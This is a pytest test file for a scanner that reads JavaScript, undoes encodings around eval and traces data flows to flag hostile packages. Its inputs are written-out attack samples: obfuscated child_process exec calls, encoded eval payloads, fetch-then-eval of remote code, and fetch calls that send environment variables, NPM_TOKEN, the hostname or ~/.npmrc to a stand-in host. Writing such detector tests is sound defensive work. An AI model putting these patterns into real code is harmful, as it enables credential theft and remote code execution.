"""JavaScript: modules, calls under their dotted names, folded texts, and what flows where."""

import base64

import pytest

from watchhouse.evidence.facts.code import Call, CodeFacts, Zone
from watchhouse.evidence.facts.scripts.read import read_script
from watchhouse.evidence.values import Sink, Source
from watchhouse.model.artifact import MemberPath
from watchhouse.model.evidence import GapReason, Moment

HIDDEN = "fetch('http://h.example/x')"
ENCODED = base64.b64encode(HIDDEN.encode()).decode()


def read(text: str) -> CodeFacts:
    """Return the facts of a JavaScript."""
    return read_script(MemberPath("x.js"), text, "javascript", zone=Zone.PACKAGE, moment=Moment.IMPORT)


def call(facts: CodeFacts, name: str) -> Call:
    """Return the one call of that name."""
    (found,) = [each for each in facts.calls if each.name == name]
    return found


@pytest.mark.parametrize(
    "text",
    [
        "require('child_process').exec('id')",
        "const cp = require('node:child_process'); cp.exec('id')",
        "const {exec} = require('child_process'); exec('id')",
        "const {exec: run} = require('child_process'); run('id', () => {})",
        "import {exec as run} from 'child_process'; run('id')",
        "import * as cp from 'child_process'; cp['ex' + 'ec'](`id`)",
        "import cp from 'child_process'; (0, cp.exec)('id')",
        "const m = 'child_process'; var cp = require(m); cp?.exec('id')",
        "const _0x12ab = ['exec', 'child_process']; require(_0x12ab[1])[_0x12ab[0]]('id')",
        r"require('\x63hild_process').exec('\u0069d')",
    ],
)
def test_calls_have_their_dotted_name(text: str) -> None:
    """However a module and its member are reached, the call has one name."""
    facts = read(text)
    found = call(facts, "javascript.child_process.exec")
    assert (found.sink, found.argument(0).const) == (Sink.PROCESS, "id")
    assert "child_process" in facts.imports
    assert call(facts, "shell.id").arguments == ()


@pytest.mark.parametrize(
    ("text", "step"),
    [
        (f"eval(atob('{ENCODED}'))", "base64"),
        (f"eval(Buffer.from('{ENCODED}', 'base64').toString())", "base64"),
        (f"new Function(Buffer.from('{HIDDEN.encode().hex()}', 'hex').toString('utf8'))()", "hex"),
        (f"eval(unescape('{''.join(f'%{ord(c):02x}' for c in HIDDEN)}'))", "percent"),
        (f"eval(String.fromCharCode({','.join(str(ord(c)) for c in HIDDEN)}))", "characters"),
        ("eval(" + "+".join(repr(c) for c in HIDDEN) + ")", "concatenation"),
        (f"eval({HIDDEN[::-1]!r}.split('').reverse().join(''))", "join"),
    ],
)
def test_hidden_code_becomes_a_layer(text: str, step: str) -> None:
    """Encodings on the way to eval are undone, and what comes out is read."""
    facts = read(text)
    assert [(layer.content, layer.executed) for layer in facts.layers] == [(HIDDEN, True)]
    assert step in facts.layers[0].steps
    assert call(facts, "javascript.fetch").location.layer == 1


@pytest.mark.parametrize(
    ("text", "name", "source"),
    [
        ("fetch('http://h.example').then(r => r.text()).then(t => eval(t))", "eval", Source.REMOTE_CONTENT),
        (
            "require('https').get('h', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
            "eval",
            Source.REMOTE_CONTENT,
        ),
        ("fetch('http://h.example', {body: JSON.stringify(process.env)})", "fetch", Source.ENVIRONMENT),
        ("fetch(`http://h.example/?t=${process.env.NPM_TOKEN}`)", "fetch", Source.ENVIRONMENT),
        (
            "const os = require('os'); fetch('http://h.example/' + os.hostname())",
            "fetch",
            Source.HOST_IDENTITY,
        ),
        (
            "import fs from 'fs'; fetch('h', {body: fs.readFileSync('/home/x/.npmrc')})",
            "fetch",
            Source.CREDENTIAL_FILE,
        ),
        ("function f(apiKey) { fetch('http://h.example', {body: apiKey}) }", "fetch", Source.SECRET_ARGUMENT),
    ],
)
def test_flows_are_followed(text: str, name: str, source: Source) -> None:
    """Promises, callbacks, templates and objects do not lose what flows through them."""
    assert call(read(text), f"javascript.{name}").receives(source)


def test_windows_script_host_is_read() -> None:
    """ActiveX objects have the names that VBScript's have."""
    facts = read("var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c calc', 0)")
    assert call(facts, "javascript.wscript.shell.run").sink is Sink.PROCESS
    assert call(facts, "batch.calc").location.line == 1


def test_start_up_files_are_told() -> None:
    """A file written where it runs again by itself has its own sink."""
    assert call(
        read("require('fs').writeFileSync('/root/.bashrc', 'x')"), "javascript.fs.writeFileSync"
    ).sink is (Sink.STARTUP)


def test_regular_expressions_and_templates_are_no_code() -> None:
    """Quotes in a regular expression, division, comments and nested templates do not derail the reading."""
    facts = read(
        "var x = /['\"`]/g, y = a / b / c; /* eval('1') */ z = `a${b ? `c${'}'}` : 'e'}`; // eval\nlast('q')"
    )
    assert [each.name for each in facts.calls] == ["javascript.last"]
    assert call(facts, "javascript.last").location.line == 2


def test_an_obfuscator_is_noticed() -> None:
    """Names that only javascript-obfuscator gives leave a gap that hides."""
    facts = read(";".join(f"var _0x{number:06x} = {number}" for number in range(4096, 4120)))
    assert [(gap.reason, gap.hides) for gap in facts.gaps] == [(GapReason.OPAQUE, True)]
